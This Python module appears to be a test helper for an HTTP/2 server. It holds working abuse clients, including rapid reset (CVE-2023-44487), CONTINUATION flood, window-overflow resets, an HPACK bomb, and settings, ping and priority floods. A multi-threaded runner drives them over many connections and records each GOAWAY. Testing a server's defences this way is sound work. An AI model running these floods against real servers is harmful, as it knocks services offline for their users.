"""Clients that abuse HTTP/2, each until it is sent away. In a process of their own, so that they do
not share an interpreter with whoever measures:

    python3 -m helpers.abuse NAME HOST PORT CONNECTIONS SECONDS

runs the abuse called NAME on so many connections at a time, each replaced when it has ended, for so
long and until as many have ended; then prints as JSON what the GOAWAYs said.
"""
import collections
import json
import struct
import sys
import threading
import time

from .http1 import Incomplete
from .http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PADDED,
                    PING, PRIORITY, PRIORITY_UPDATE, SETTINGS, WITH_PRIORITY, GoneAway,
                    Http2Client, frame, reset_frame, window_frame)

FOR_EVER = 100000
ABUSES = {}


def abuse(budget: str, **options):
    """An abuse and the budget that ends it. `options` are the client's."""
    def register(function):
        ABUSES[function.__name__] = (budget, options, function)
        return function
    return register


def _opened() -> bytes:
    """HEADERS of stream 1, whose body follows."""
    return frame(HEADERS, END_HEADERS, 1, _plain_head(b"POST"))


def _headers(block: bytes, streams, flags=END_HEADERS | END_STREAM) -> bytes:
    return b"".join(frame(HEADERS, flags, n, block) for n in streams)


def _literal(name: bytes, value: bytes) -> bytes:
    """Without indexing, short lengths only (RFC 7541 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _plain_head(method=b"GET", target=b"/hang") -> bytes:
    """A request's block that leaves the dynamic table alone: good for any stream."""
    return b"".join(_literal(n, v) for n, v in [(b":method", method), (b":scheme", b"http"),
                                                (b":authority", b"shop.test"), (b":path", target)])


@abuse("rapid_resets")
def rapid_reset(client):
    """CVE-2023-44487."""
    block = _plain_head()
    client.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, block) + reset_frame(n)
                         for n in range(1, 4000, 2)))


def _few_at_a_time(client, frames_of):
    """For all streams, without ever having more open than are allowed."""
    for first in range(1, 4000, 100):
        client.send(b"".join(frames_of(n) for n in range(first, first + 100, 2)))
        client.ping()


@abuse("provoked_resets")
def window_overflow(client):
    """CVE-2025-8671: each request made the server's to reset, by a window of 2^31."""
    head = _plain_head()
    _few_at_a_time(client, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head) +
                   window_frame(n, (1 << 31) - 1))


@abuse("provoked_resets")
def malformed_requests(client):
    head = _plain_head() + _literal(b"connection", b"close")
    _few_at_a_time(client, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head))


@abuse("provoked_resets")
def too_much_body(client):
    """DATA beyond the content-length."""
    head = _plain_head(b"POST") + _literal(b"content-length", b"1")
    _few_at_a_time(client, lambda n: frame(HEADERS, END_HEADERS, n, head) +
                   frame(DATA, 0, n, b"22"))


@abuse("continuations")
def continuation_flood(client):
    """CVE-2024-27316."""
    client.send(frame(HEADERS, END_STREAM, 1, _plain_head()) +
                frame(CONTINUATION, 0, 1, _literal(b"x-a", b"b")) * FOR_EVER)


@abuse("empty_headers")
def empty_continuations(client):
    """A block of several frames, over and over, most of them with nothing in it."""
    block = _plain_head()
    client.send(b"".join(frame(HEADERS, END_STREAM, n) + frame(CONTINUATION, 0, n) +
                         frame(CONTINUATION, END_HEADERS, n, block) for n in range(1, 4000, 2)))


@abuse("empty_headers")
def headers_of_padding(client):
    payload = bytes([10]) + bytes(5) + bytes(10)
    client.send(b"".join(
        frame(HEADERS, END_STREAM | PADDED | WITH_PRIORITY, n, payload) +
        frame(CONTINUATION, END_HEADERS, n, _plain_head()) for n in range(1, 4000, 2)))


@abuse("header_bytes")
def hpack_bomb(client):
    """4 kB in the dynamic table, then a byte each to repeat them: 60 MB out of 16 kB."""
    value = b"x" * 4000
    insert = b"\x40\x01a" + b"\x7f" + bytes([(len(value) - 127) & 0x7f | 0x80,
                                             (len(value) - 127) >> 7]) + value
    client.send(_headers(_plain_head() + insert, [1]) +
                _headers(_plain_head() + b"\xbe" * 15000, range(3, 200, 2)))


@abuse("settings")
def settings_flood(client):
    client.send(frame(SETTINGS) * FOR_EVER)


@abuse("settings")
def settings_that_move_windows(client):
    """Each changes the window of every stream."""
    client.send(_headers(_plain_head(), range(1, 200, 2)) + b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535 + i % 2))
        for i in range(10000)))


@abuse("pings")
def ping_flood(client):
    client.send(frame(PING, 0, 0, b"abcdefgh") * FOR_EVER)


@abuse("pings")
def ping_flood_unread(client):
    """Nobody takes the answers."""
    client.reads = False
    client.send(frame(PING, 0, 0, b"abcdefgh") * FOR_EVER)


@abuse("empty_data")
def empty_data(client):
    client.send(_opened() + frame(DATA, 0, 1) * FOR_EVER)


@abuse("empty_data")
def data_of_padding(client):
    client.send(_opened() + frame(DATA, PADDED, 1, b"\x03" + bytes(3)) * 10000)


@abuse("priorities")
def priority_flood(client):
    client.send(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 16)) * FOR_EVER)


@abuse("priorities")
def priority_update_flood(client):
    client.send(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1, i") * FOR_EVER)


@abuse("window_updates")
def window_update_flood(client):
    client.send(window_frame(0, 1) * FOR_EVER)


@abuse("tiny_frames")
def tiny_data(client):
    """A byte a frame, on a few streams so that no window ends it first."""
    for n in range(1, 11, 2):
        client.send(frame(HEADERS, END_HEADERS, n, _plain_head(b"POST")) +
                    frame(DATA, 0, n, b"x") * 30000)


@abuse("tiny_frames")
def tiny_unknown(client):
    """Frames that everybody has to ignore."""
    client.send(frame(0x7f, 0, 0, b"x") * FOR_EVER)


@abuse("starved_frames", settings={INITIAL_WINDOW: 1}, auto_window=False)
def one_byte_windows(client):
    """A byte of each response at a time."""
    numbers = range(1, 128, 2)
    client.send(_headers(_plain_head(target=b"/big"), numbers))
    for round_ in range(1, 20):
        client.wait(lambda: len(client.streams) == len(numbers) and
                    all(s.data_frames >= round_ for s in client.streams.values()))
        for stream in client.streams.values():
            stream.receive_window += 1
        client.send(b"".join(window_frame(n, 1) for n in numbers))


@abuse("stalled_streams", settings={INITIAL_WINDOW: 0}, auto_window=False)
def zero_windows(client):
    client.send(_headers(_plain_head(target=b"/big"), range(1, 200, 2)))


@abuse("abandoned_streams")
def unfinished_requests(client):
    client.send(_headers(_plain_head(b"POST"), range(1, 200, 2), END_HEADERS))


class Abuser(Http2Client):
    reads = True  # while it is at it

    def _known(self, number):
        return self.streams.get(number) or self.open_as(number)

    def open_as(self, number):
        """Streams are opened by hand here, and learnt of when they are answered."""
        self.next_stream = number
        return self.open()


def run_one(name: str, address: tuple):
    """One connection, to its end. Returns what the GOAWAY said, or what happened instead."""
    _, options, act = ABUSES[name]
    with Abuser(address, **options) as client:
        if act is not ping_flood_unread:
            client.read_in_background()
        try:
            act(client)
        except (OSError, GoneAway, Incomplete):
            pass  # it was ended in the middle
        try:
            client.wait_end(30)
        except (OSError, Incomplete):
            pass  # cut behind the GOAWAY
        if client.goaway:
            return f"{client.goaway.code} {client.goaway.debug}"
        return f"no GOAWAY but {client.error!r}"


class Crowd:
    def __init__(self, name: str, address: tuple, n: int, seconds: float):
        self.name, self.address, self.n = name, address, n
        self.end = time.monotonic() + seconds
        self.said = collections.Counter()
        self.lock = threading.Lock()

    def worker(self):
        while True:
            try:
                goaway = run_one(self.name, self.address)
            except Exception as error:  # pylint: disable=broad-except
                goaway = repr(error)
            with self.lock:
                self.said[goaway] += 1
                if time.monotonic() > self.end:
                    return

    def run(self) -> dict:
        threads = [threading.Thread(target=self.worker) for _ in range(self.n)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return dict(self.said)


if __name__ == "__main__":
    what, host, port, connections, duration = sys.argv[1:]
    print(json.dumps(Crowd(what, (host, int(port)), int(connections), float(duration)).run()))
